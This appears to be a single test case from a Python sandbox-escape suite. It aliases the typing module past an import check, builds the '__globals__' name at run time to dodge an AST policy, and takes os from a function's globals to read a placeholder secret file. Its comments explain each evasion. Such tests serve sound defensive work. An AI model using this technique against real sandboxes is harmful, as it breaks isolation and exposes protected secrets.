# id: in03-attrgetter-globals
# category: introspection
# effect: operator.attrgetter with a run-time dunder: a function's globals -> os.open the secret
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
d = "_" * 2             # dunders assembled at run time: no literal dunder in the source
ag = t.operator.attrgetter
g = ag(d + "globals" + d)(import_step)
o = g["os"]
print(o.read(o.open("{SECRET}", o.O_RDONLY), 200))
